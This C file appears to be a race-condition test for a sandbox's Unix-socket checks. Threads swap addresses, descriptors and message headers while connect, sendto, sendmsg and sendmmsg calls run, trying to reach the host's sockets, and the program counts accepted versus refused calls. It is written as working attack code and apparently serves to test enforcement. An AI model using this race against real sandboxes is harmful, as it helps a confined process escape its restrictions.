/*
 * Threads that swap everything a call points at while it is made: the address, the descriptor's number, the
 * message. Arguments: seconds, then paths of a datagram and a stream socket of the host. Own sockets are made
 * in the current folder. Prints how many calls went to either side, as far as it can tell.
 */
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

static struct sockaddr_un own_datagram, own_stream, host_datagram, host_stream;
/* What the calls name. */
static _Alignas(struct sockaddr_un) char datagram_address[sizeof(struct sockaddr_un)];
static _Alignas(struct sockaddr_un) char stream_address[sizeof(struct sockaddr_un)];
static struct iovec part = {.iov_base = (char[]){"x"}, .iov_len = 1};
static struct mmsghdr batch[2];
static int number, spare[2];
static atomic_bool over;

static struct sockaddr_un address_of(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    return address;
}

static void point_at(struct sockaddr_un *datagram, const struct sockaddr_un *stream) {
    memcpy(datagram_address, datagram, sizeof *datagram);
    memcpy(stream_address, stream, sizeof *stream);
    for (size_t i = 0; i < 2; i++)
        *(void *volatile *)&batch[i].msg_hdr.msg_name = datagram;
}

static void *swap_addresses(void *unused) {
    (void)unused;
    while (!atomic_load(&over)) {
        point_at(&host_datagram, &host_stream);
        point_at(&own_datagram, &own_stream);
    }
    return NULL;
}

/* One number, now a datagram socket, now a stream, now nothing. */
static void *swap_descriptors(void *unused) {
    (void)unused;
    for (unsigned i = 0; !atomic_load(&over); i++) {
        if (i % 16 == 0) {
            close(spare[1]);
            spare[1] = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        }
        dup2(spare[i % 2], number);
    }
    return NULL;
}

static void *serve(void *server) {
    while (!atomic_load(&over))
        close(accept(*(int *)server, NULL, NULL));
    return NULL;
}

static int make(const struct sockaddr_un *address, int type) {
    int fd = socket(AF_UNIX, type | SOCK_NONBLOCK, 0);
    unlink(address->sun_path);
    if (bind(fd, (const struct sockaddr *)address, sizeof *address) != 0 ||
        (type == SOCK_STREAM && listen(fd, 64) != 0))
        abort();
    return fd;
}

static unsigned done[2];

static void count(long result) {
    done[result < 0 ? 1 : 0]++;
}

static void attack(int datagrams) {
    char byte;
    const struct sockaddr *datagram = (const struct sockaddr *)datagram_address;
    const struct sockaddr *stream = (const struct sockaddr *)stream_address;
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    count(connect(fd, stream, sizeof own_stream));
    close(fd);
    count(connect(number, datagram, sizeof own_datagram));
    count(sendto(number, "x", 1, MSG_DONTWAIT | MSG_NOSIGNAL, datagram, sizeof own_datagram));
    count(sendto(spare[0], "x", 1, MSG_DONTWAIT, datagram, sizeof own_datagram));
    count(sendmsg(spare[0], &batch[0].msg_hdr, MSG_DONTWAIT));
    count(sendmmsg(spare[0], batch, 2, MSG_DONTWAIT));
    while (recv(datagrams, &byte, 1, 0) >= 0)
        ;
}

int main(int argc, char **argv) {
    pthread_t threads[3];
    if (argc != 4)
        return 2;
    own_datagram = address_of("flip-datagram");
    own_stream = address_of("flip-stream");
    host_datagram = address_of(argv[2]);
    host_stream = address_of(argv[3]);
    int datagrams = make(&own_datagram, SOCK_DGRAM);
    int streams = make(&own_stream, SOCK_STREAM);
    for (size_t i = 0; i < 2; i++) {
        spare[i] = socket(AF_UNIX, (i == 0 ? SOCK_DGRAM : SOCK_STREAM) | SOCK_NONBLOCK, 0);
        batch[i].msg_hdr =
            (struct msghdr){.msg_namelen = sizeof own_datagram, .msg_iov = &part, .msg_iovlen = 1};
    }
    number = dup(spare[0]);
    point_at(&own_datagram, &own_stream);
    pthread_create(&threads[0], NULL, swap_addresses, NULL);
    pthread_create(&threads[1], NULL, swap_descriptors, NULL);
    pthread_create(&threads[2], NULL, serve, &streams);
    for (time_t until = time(NULL) + atoi(argv[1]); time(NULL) < until;)
        attack(datagrams);
    atomic_store(&over, true);
    printf("made: %u\nrefused: %u\n", done[0], done[1]);
    return 0;
}
